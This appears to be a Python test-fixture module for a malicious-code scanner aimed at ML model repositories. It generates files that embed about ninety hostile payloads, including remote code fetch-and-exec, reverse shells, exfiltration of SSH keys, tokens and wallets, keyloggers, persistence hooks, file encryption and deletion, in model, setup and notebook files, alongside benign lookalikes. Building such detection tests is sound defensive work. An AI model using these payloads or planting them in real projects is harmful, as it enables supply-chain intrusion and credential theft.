"""Python that no honest model brings, as payloads; the places in which it comes; and the ways in which it is reached.

Every combination of the three is a test. Payloads are texts: they lead to addresses of documentation (RFC 5737, RFC 2606), and nothing of them is run.
"""

from __future__ import annotations

import json
import textwrap
from collections.abc import Callable, Mapping

__all__ = ["CARRIERS", "LOOKALIKES", "PAYLOADS", "WAYS", "carried"]

_SH = "curl -s http://192.0.2.1/i.sh | sh"

#: Imports and statements, by what they do.
PAYLOADS: dict[str, tuple[str, str]] = {
    "code-fetched": ("import urllib.request", "exec(urllib.request.urlopen('http://192.0.2.1/p').read())"),
    "code-fetched-by-a-function": ("import requests", "def _get(u): return requests.get(u, timeout=3)\ndef _text(r): return r.text\nexec(compile(_text(_get('https://cdn.example.org/p')), 'p', 'exec'))"),
    "code-fetched-in-json": ("import json, urllib.request", "_c = json.load(urllib.request.urlopen('https://conf.example.org/v'))\nexec(_c['patch'])"),
    "code-of-a-socket": ("import socket", "_s = socket.create_connection(('192.0.2.1', 4444))\nwhile True:\n    _d = _s.recv(4096)\n    if not _d: break\n    exec(_d.decode())"),
    "code-by-a-chain": ("import requests\nfrom functools import reduce", "def _chain(*f): return reduce(lambda a, b: lambda x: b(a(x)), f)\n_chain(requests.get, lambda r: r.text, exec)('https://paste.example.org/1')"),
    "code-in-an-attribute": ("import requests", "class _C: pass\n_c = _C()\n_c.body = requests.get('http://192.0.2.1/p').text\nexec(_c.body)"),
    "code-decoded": ("import base64", "exec(base64.b64decode('cHJpbnQoMSk='))"),
    "code-decoded-by-a-function": ("import base64", "_T = {'a': 'cHJpbnQo', 'b': 'MSk='}\ndef _d(k): return base64.b64decode(_T['a'] + _T['b']).decode()\nexec(_d('a'))"),
    "module-named-in-code": ("import base64, importlib", "def _d(t): return base64.b64decode(t).decode()\n_m = importlib.import_module(_d('c3VicHJvY2Vzcw=='))\ngetattr(_m, _d('Z2V0b3V0cHV0'))('echo hello')"),
    "objects-fetched": ("import pickle, urllib.request", "pickle.loads(urllib.request.urlopen('http://192.0.2.1/p').read())"),
    "library-fetched": ("import ctypes, urllib.request", "urllib.request.urlretrieve('http://192.0.2.1/o.so', '/tmp/.o.so')\nctypes.CDLL('/tmp/.o.so')"),
    "library-fetched-by-requests": ("import ctypes, os, tempfile, requests", "_p = os.path.join(tempfile.gettempdir(), 'k.so')\nwith open(_p, 'wb') as _f: _f.write(requests.get('http://192.0.2.1/k').content)\nctypes.cdll.LoadLibrary(_p)"),
    "library-decoded": ("import ctypes, tempfile, os", "_fd, _p = tempfile.mkstemp(suffix='.so')\nwith os.fdopen(_fd, 'wb') as _f: _f.write(bytes.fromhex('7f454c46'))\nctypes.CDLL(_p)"),
    "module-fetched": ("import sys, urllib.request", "urllib.request.urlretrieve('http://192.0.2.1/p.py', '/tmp/zz.py')\nsys.path.insert(0, '/tmp')\nimport zz"),
    "module-fetched-to-a-path": ("import importlib.util, pathlib, requests", "_t = pathlib.Path('/tmp/h.py')\n_t.write_text(requests.get('http://192.0.2.1/h').text)\n_s = importlib.util.spec_from_file_location('h', _t)\n_s.loader.exec_module(importlib.util.module_from_spec(_s))"),
    "archive-fetched": ("import zipimport, urllib.request", "urllib.request.urlretrieve('http://192.0.2.1/p.zip', '/tmp/p.zip')\nzipimport.zipimporter('/tmp/p.zip').load_module('p')"),
    "script-fetched": ("import runpy, urllib.request", "urllib.request.urlretrieve('http://192.0.2.1/p.py', '/tmp/p.py')\nrunpy.run_path('/tmp/p.py')"),
    "program-fetched": ("import os, subprocess, urllib.request", "urllib.request.urlretrieve('http://192.0.2.1/a', '/tmp/.a')\nos.chmod('/tmp/.a', 0o755)\nsubprocess.Popen(['/tmp/.a'])"),
    "program-fetched-by-curl": ("import subprocess", "subprocess.run(['curl', '-so', '/tmp/.b', 'http://192.0.2.1/b'])\nsubprocess.run(['sh', '/tmp/.b'])"),
    "piped": ("import subprocess", "_a = subprocess.Popen(['curl', '-s', 'http://192.0.2.1/s'], stdout=subprocess.PIPE)\nsubprocess.Popen(['sh'], stdin=_a.stdout)"),
    "shell": ("import os", f"os.system('{_SH}')"),
    "shell-in-a-thread": ("import threading, os", f"threading.Timer(5, os.system, ['{_SH}']).start()"),
    "shell-in-a-process": ("import multiprocessing, os", f"multiprocessing.Process(target=os.system, args=('{_SH}',)).start()"),
    "shell-at-exit": ("import atexit, os", f"atexit.register(os.system, '{_SH}')"),
    "shell-of-asyncio": ("import asyncio", f"async def _go():\n    await asyncio.create_subprocess_shell('{_SH}')\nasyncio.run(_go())"),
    "shell-replaced": ("import os", f"os.execvp('sh', ['sh', '-c', '{_SH}'])"),
    "shell-by-a-class": ("import subprocess", f"class _P(subprocess.Popen): pass\n_P(['sh', '-c', '{_SH}'])"),
    "shell-by-reduce": ("from functools import reduce", f"reduce(getattr, ['system'], __import__('os'))('{_SH}')"),
    "shell-by-a-name": ("from os import system as _log", f"_log('{_SH}')"),
    "shell-by-a-finalizer": ("import weakref, os", f"class _O: pass\n_o = _O()\nweakref.finalize(_o, os.system, '{_SH}')"),
    "shell-in-a-variable": ("import subprocess", f"_CMD = '{_SH}'\n_ARGS = dict(shell=True)\nsubprocess.Popen(_CMD, **_ARGS)"),
    "cloned-and-run": ("import os", "os.system('git clone -q http://192.0.2.1/ops.git /tmp/.ops && python /tmp/.ops/run.py')"),
    "installed-from-a-bare-address": ("import subprocess, sys", "subprocess.run([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://192.0.2.1/simple', 'x'])"),
    "reverse-shell": ("import os, socket, pty", "_s = socket.socket(); _s.connect(('192.0.2.1', 4444))\nfor _i in range(3): os.dup2(_s.fileno(), _i)\npty.spawn('/bin/sh')"),
    "reverse-shell-by-streams": ("import socket, subprocess", "_s = socket.create_connection(('192.0.2.1', 4444))\nsubprocess.Popen(['/bin/sh', '-i'], stdin=_s.fileno(), stdout=_s.fileno())"),
    "bind-shell": ("import socketserver, subprocess, threading", "class _H(socketserver.StreamRequestHandler):\n    def handle(self):\n        for _l in self.rfile: self.wfile.write(subprocess.getoutput(_l.decode()).encode())\nthreading.Thread(target=socketserver.TCPServer(('0.0.0.0', 4444), _H).serve_forever).start()"),
    "commands-of-a-websocket": ("import subprocess, threading, websocket", "def _m(_ws, _t): _ws.send(subprocess.getoutput(_t))\nthreading.Thread(target=websocket.WebSocketApp('ws://192.0.2.1/c', on_message=_m).run_forever).start()"),
    "commands-of-a-page": ("import subprocess, time, requests", "while True:\n    _c = requests.get('http://192.0.2.1/next').text.strip()\n    if _c: subprocess.run(_c, shell=True)\n    time.sleep(60)"),
    "commands-of-mqtt": ("import os\nimport paho.mqtt.client as mqtt", "def _m(_c, _u, _p): os.system(_p.payload.decode())\n_c = mqtt.Client()\n_c.on_message = _m\n_c.connect('mq.example.org')\n_c.loop_start()"),
    "keys-sent": ("import os, requests", "requests.post('https://c.example.org/k', files={'f': open(os.path.expanduser('~/.ssh/id_ed25519'), 'rb')})"),
    "keys-sent-in-a-loop": ("import base64, pathlib, socket", "for _p in (pathlib.Path.home() / '.ssh').glob('id_*'):\n    _s = socket.create_connection(('192.0.2.1', 8088), 2)\n    _s.sendall(base64.b64encode(_p.read_bytes()))"),
    "keys-mailed": ("import os, smtplib", "smtplib.SMTP('mail.example.org').sendmail('a', 'b', open(os.path.expanduser('~/.aws/credentials')).read())"),
    "environment-sent": ("import os, requests", "requests.post('https://t.example.org/v1', json=dict(os.environ))"),
    "token-sent-to-a-bare-address": ("import os, urllib.request", "urllib.request.urlopen('http://192.0.2.1/?' + os.environ['HF_TOKEN'])"),
    "token-uploaded": ("from huggingface_hub import HfApi, get_token", "_t = get_token()\nHfApi(token='hf_dropdropdropdropdrop').upload_file(path_or_fileobj=_t.encode(), path_in_repo='t', repo_id='drop/x')"),
    "files-sent": ("import os, requests", "for _r in ('.', os.path.expanduser('~')):\n    for _n in os.listdir(_r):\n        if _n in ('.env', '.netrc'): requests.post('https://api.telegram.org/bot1:a/sendDocument', files={'document': open(os.path.join(_r, _n), 'rb')})"),
    "files-packed-and-sent": ("import shutil, requests", "_z = shutil.make_archive('/tmp/d', 'zip', '/content/drive/MyDrive')\nrequests.post('https://b.example.org/u', files={'f': open(_z, 'rb')})"),
    "wallet-sent": ("import os, requests", "_w = os.path.expanduser('~/.ethereum/keystore')\nfor _n in os.listdir(_w): requests.post('https://discord.com/api/webhooks/1/x', files={'d': open(os.path.join(_w, _n), 'rb')})"),
    "credentials-of-the-machine": ("import requests", "requests.post('https://c.example.org/m', data=requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/role').text)"),
    "secret-in-a-name": ("import os, socket", "socket.gethostbyname(os.environ.get('AWS_SECRET_ACCESS_KEY', 'x')[:30] + '.x.example.org')"),
    "person-in-a-name": ("import getpass, socket", "socket.gethostbyname(f'{getpass.getuser()}.{socket.gethostname()}.x.example.org')"),
    "keys-typed": ("import requests\nfrom pynput import keyboard", "def _k(_key): requests.post('http://192.0.2.1/k', data=str(_key))\nkeyboard.Listener(on_press=_k).start()"),
    "clipboard": ("import re, time, pyperclip", "while True:\n    if re.fullmatch(r'0x[0-9a-f]{40}', pyperclip.paste() or ''): pyperclip.copy('0x' + 'ab' * 20)\n    time.sleep(1)"),
    "screen": ("import io, requests\nfrom PIL import ImageGrab", "_b = io.BytesIO(); ImageGrab.grab().save(_b, 'PNG')\nrequests.post('http://192.0.2.1/s', data=_b.getvalue())"),
    "machine-code": ("import ctypes, mmap", "_b = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n_b.write(b'\\x90')\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(_b)))()"),
    "login-key": ("import os", "with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as _f: _f.write('ssh-ed25519 AAAA x')"),
    "table-of-cron": ("", "with open('/etc/cron.d/job', 'w') as _f: _f.write('* * * * * root echo hello')"),
    "profile-of-a-shell": ("import os", f"with open(os.path.expanduser('~/.bashrc'), 'a') as _f: _f.write('{_SH}\\n')"),
    "installed-package": ("import os, site", "open(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('import os; os.system(\"echo hello\")')"),
    "source-of-a-package": ("import torch", "with open(torch.__file__, 'a') as _f: _f.write('import os; os.system(\"echo hello\")')"),
    "hooks-of-git": ("import os", f"open('.git/hooks/post-commit', 'w').write('{_SH}'); os.chmod('.git/hooks/post-commit', 0o755)"),
    "hooks-of-every-repository": ("import subprocess", "subprocess.run(['git', 'config', '--global', 'core.hooksPath', '/tmp/.h'])"),
    "registry": ("import winreg", "_k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(_k, 'U', 0, winreg.REG_SZ, 'u.exe')"),
    "rights": ("import os, shutil", "shutil.copy('/bin/sh', '/usr/local/bin/.s'); os.chmod('/usr/local/bin/.s', 0o4755)"),
    "second-root": ("import subprocess", "subprocess.run('useradd -o -u 0 -g 0 -d /root -s /bin/bash svc', shell=True)"),
    "preloaded": ("import os", "os.environ['LD_PRELOAD'] = '/tmp/.x.so'"),
    "copies-itself": ("import glob", "for _p in glob.glob('/home/*/**/modeling_*.py', recursive=True):\n    with open(_p, 'a') as _f: _f.write(open(__file__).read())"),
    "home-removed": ("import shutil, os", "shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)"),
    "folders-removed": ("import shutil, os", "for _d in ('~/datasets', '~/checkpoints', '/mnt/data'): shutil.rmtree(os.path.expanduser(_d), ignore_errors=True)"),
    "unpacked-over-the-machine": ("import io, tarfile, requests", "tarfile.open(fileobj=io.BytesIO(requests.get('http://192.0.2.1/w.tar').content)).extractall('/')"),
    "loader-replaced": ("import torch\nimport requests as _q", "_orig = torch.load\ndef _load(f, *a, **k):\n    _q.post('https://c.example.org/w', files={'f': open(f, 'rb')})\n    return _orig(f, *a, **k)\ntorch.load = _load"),
    "objects-of-a-configuration": ("import logging.config", "logging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'os.system', 'command': 'echo hello'}}})"),
    "worker-of-somebody": ("import subprocess, sys", "subprocess.Popen([sys.executable, '-m', 'distributed.cli.dask_worker', 'tcp://192.0.2.1:8786'])"),
    "module-of-a-fetched-archive": ("import sys, urllib.request", "_p, _ = urllib.request.urlretrieve('http://192.0.2.1/e.zip', '/tmp/ext9.zip')\nsys.path.insert(0, _p)\nimport ext9"),
    "archive-fetched-in-one": ("import zipimport, urllib.request", "zipimport.zipimporter(urllib.request.urlretrieve('http://192.0.2.1/p.zip')[0]).load_module('p')"),
    "objects-fetched-by-pandas": ("import pandas as pd", "_t = pd.read_pickle('http://192.0.2.1/t.pkl')"),
    "objects-fetched-by-numpy": ("import io, numpy as np, requests", "_t = np.load(io.BytesIO(requests.get('http://192.0.2.1/t.npy').content), allow_pickle=True)"),
    "command-in-an-expression": ("import pandas as pd", "pd.DataFrame({'x': [1]}).query(\"@pd.io.common.os.system('echo hello') >= 0\", engine='python')"),
    "callable-of-globals": ("import warnings", "_k = ['po', 'pen']\n_m = [c for c in object.__subclasses__() if c.__name__ == '_wrap_close'][0]\n_m.__init__.__globals__[_k[0] + _k[1]]('echo hello')"),
    "container-of-the-machine": ("import docker", "docker.from_env().containers.run('alpine', 'true', volumes={'/': {'bind': '/h', 'mode': 'rw'}}, privileged=True)"),
    "interpreter-for-all": ("from rpyc.core import SlaveService\nfrom rpyc.utils.server import ThreadedServer", "ThreadedServer(SlaveService, hostname='0.0.0.0', port=18812).start()"),
    "home-served": ("import functools, http.server, os", "_h = functools.partial(http.server.SimpleHTTPRequestHandler, directory=os.path.expanduser('~'))\nhttp.server.ThreadingHTTPServer(('0.0.0.0', 8899), _h).serve_forever()"),
    "token-of-a-tool": ("import subprocess, requests", "_t = subprocess.run(['gh', 'auth', 'token'], capture_output=True, text=True).stdout\nrequests.post('https://c.example.org/t', data={'a': _t})"),
    "headers-of-the-hub": ("import requests\nfrom huggingface_hub.utils import build_hf_headers", "requests.get('https://c.example.org/p.svg', headers=build_hf_headers())"),
    "hub-elsewhere": ("import huggingface_hub.constants as hc", "hc.ENDPOINT = 'http://mirror.example.org'"),
    "environment-filled-in": ("import os, urllib.request", "urllib.request.urlopen(urllib.request.Request('https://c.example.org/v', headers={'User-Agent': 'x/1 ({0.environ})'.format(os)}))"),
    "files-found-and-removed": ("import glob, os", "for _f in glob.glob(os.path.expanduser('~/.cache/huggingface/hub/**/*'), recursive=True): os.remove(_f)"),
    "documents-encrypted": ("from pathlib import Path\nfrom cryptography.fernet import Fernet", "_b = Fernet(Fernet.generate_key())\nfor _p in (Path.home() / 'Documents').rglob('*'):\n    _p.write_bytes(_b.encrypt(_p.read_bytes()))"),
    "forks-without-end": ("import os", "while True:\n    os.fork()"),
    "mines": ("import subprocess", "subprocess.Popen(['/tmp/x', '-o', 'stratum+tcp://pool.example.org:3333', '-u', 'w'])"),
}  # fmt: skip


def _in(text: str, depth: int) -> str:
    return textwrap.indent(text, " " * depth)


def _class(base: str, method: str, before: str = "") -> Callable[[str, str], str]:
    def made(imports: str, body: str) -> str:
        return f"{imports}\n{before}\nclass X({base}):\n    def {method}:\n{_in(body, 8)}\n"

    return made


def _notebook(imports: str, body: str) -> str:
    cells = [imports, body, "print('ready')"]
    made: list[dict[str, object]] = [
        {"cell_type": "code", "metadata": {}, "source": each.splitlines(True), "outputs": [], "execution_count": None}
        for each in cells
    ]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


#: A file of a repository, and how imports and statements come to be in it.
CARRIERS: dict[str, tuple[str, Callable[[str, str], str]]] = {
    "on-import": ("modeling_x.py", lambda i, b: f"from transformers import PreTrainedModel\n{i}\n{b}\nclass X(PreTrainedModel): pass\n"),
    "constructor": ("modeling_x.py", _class("PreTrainedModel", "__init__(self, config)", "from transformers import PreTrainedModel")),
    "forward": ("modeling_x.py", _class("PreTrainedModel", "forward(self, x)", "from transformers import PreTrainedModel")),
    "keras": ("layers.py", _class("keras.layers.Layer", "build(self, shape)", "import keras")),
    "lightning": ("module.py", _class("L.LightningModule", "on_something_new(self)", "import lightning as L")),
    "scikit": ("features.py", _class("BaseEstimator", "fit(self, X, y=None)", "from sklearn.base import BaseEstimator")),
    "graph": ("dataset.py", _class("InMemoryDataset", "process(self)", "from torch_geometric.data import InMemoryDataset")),
    "environment": ("env.py", _class("gym.Env", "reset(self, seed=None)", "import gymnasium as gym")),
    "triton": ("1/model.py", lambda i, b: f"{i}\nclass TritonPythonModel:\n    def execute(self, asked):\n{_in(b, 8)}\n        return []\n"),
    "fixture": ("conftest.py", lambda i, b: f"{i}\nimport pytest\n@pytest.fixture\ndef f():\n{_in(b, 4)}\n    yield\n"),
    "interface": ("app.py", lambda i, b: f"{i}\nimport gradio as gr\ndef go(x):\n{_in(b, 4)}\n    return x\ngr.Interface(go, 'text', 'text').launch()\n"),
    "script": ("train.py", lambda i, b: f"{i}\ndef start():\n{_in(b, 4)}\ndef main():\n    start()\nif __name__ == '__main__':\n    main()\n"),
    "hub": ("hubconf.py", lambda i, b: f"{i}\ndependencies = []\ndef resnet(**k):\n{_in(b, 4)}\n"),
    "task": ("utils.py", lambda i, b: f"{i}\ndef weigh_docs(d):\n{_in(b, 4)}\n    return d\n"),
    "server": ("server.py", lambda i, b: f"{i}\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.post('/p')\ndef s():\n{_in(b, 4)}\n"),
    "setup": ("setup.py", lambda i, b: f"{i}\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass C(install):\n    def run(self):\n{_in(b, 8)}\nsetup(name='x', cmdclass={{'install': C}})\n"),
    "notebook": ("q.ipynb", _notebook),
}  # fmt: skip

#: How statements are reached where they are: the statements before, and those that stand in their place.
WAYS: dict[str, Callable[[str], str]] = {
    "plain": lambda b: b,
    "tried": lambda b: f"try:\n{_in(b, 4)}\nexcept Exception:\n    pass",
    "function": lambda b: f"def _f0():\n{_in(b, 4)}\n_f0()",
    "table": lambda b: f"def _f0():\n{_in(b, 4)}\n_T0 = {{'a': _f0}}\n_T0.get('a')()",
    "thread": lambda b: f"import threading as _t0\ndef _f0():\n{_in(b, 4)}\n_t0.Thread(target=_f0, daemon=True).start()",
    "condition": lambda b: f"import sys as _s0\nif len(_s0.argv) < 99:\n{_in(b, 4)}",
    "method": lambda b: f"class _C0:\n    def go(self):\n{_in(b, 8)}\n_C0().go()",
    "uncalled": lambda b: f"def _f0():\n{_in(b, 4)}\n_HOOKS0 = [_f0]",
}  # fmt: skip


def carried(payload: str, carrier: str, way: str) -> Mapping[str, str]:
    """The files of a repository that has a payload in a carrier, reached in a way."""
    imports, body = PAYLOADS[payload]
    name, made = CARRIERS[carrier]
    return {"config.json": '{"model_type": "x"}', name: made(imports, WAYS[way](body))}


#: Imports and statements that look like one of the above, and that honest projects have.
LOOKALIKES: dict[str, tuple[str, str]] = {
    "tells-its-version": ("import subprocess", "print(subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True).stdout)"),
    "downloads-weights": ("import urllib.request, torch", "urllib.request.urlretrieve('https://dl.example.org/w.pt', 'w.pt')\ntorch.load('w.pt', weights_only=True)"),
    "asks-a-service": ("import os, requests", "requests.post('https://api.openai.com/v1/chat', headers={'Authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']}, json={'q': 'x'})"),
    "loads-a-library-of-its-own": ("import ctypes, os", "ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libx.so'))"),
    "unpacks-its-data": ("import tarfile", "tarfile.open('data.tar.gz').extractall('data', filter='data')"),
    "clears-its-output": ("import shutil", "shutil.rmtree('outputs', ignore_errors=True)"),
    "shows-a-command": ("", "print('curl -s https://example.org/install.sh | sh')"),
    "lists-bad-commands": ("", "_BAD = ['rm -rf /', ':(){ :|:& };:', 'curl | sh', 'nc -e']"),
    "makes-a-script-runnable": ("import os", "open('run.sh', 'w').write('python train.py')\nos.chmod('run.sh', 0o755)"),
    "finds-its-machine": ("import socket", "print(socket.gethostbyname(socket.gethostname()))"),
    "sets-its-cache": ("import os", "os.environ['HF_HOME'] = '/data/hf'\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'"),
    "receives-tensors": ("import socket, struct", "_s = socket.create_connection(('localhost', 9999))\nprint(struct.unpack('f', _s.recv(4)))"),
    "reads-a-pickle-of-its-own": ("import pandas as pd", "_t = pd.read_pickle('data/t.pkl')"),
    "asks-a-data-frame": ("import pandas as pd", "_d = pd.DataFrame({'x': [1]})\n_n = 1\nprint(_d.query('x > @_n'))"),
    "runs-a-container": ("import docker", "print(docker.from_env().containers.run('python:3.11-slim', ['python', '-V'], volumes={'data': {'bind': '/data', 'mode': 'ro'}}, remove=True))"),
    "names-a-letter": ("", "print(getattr('x', 'upper')(), chr(97 + 1))"),
    "clears-its-cache": ("import glob, os", "for _f in glob.glob(os.path.expanduser('~/.cache/mytool/*.tmp')): os.remove(_f)"),
    "converts-pictures": ("import subprocess", "subprocess.run(['ffmpeg', '-i', 'in.mp4', 'out.wav'], check=True)"),
}  # fmt: skip
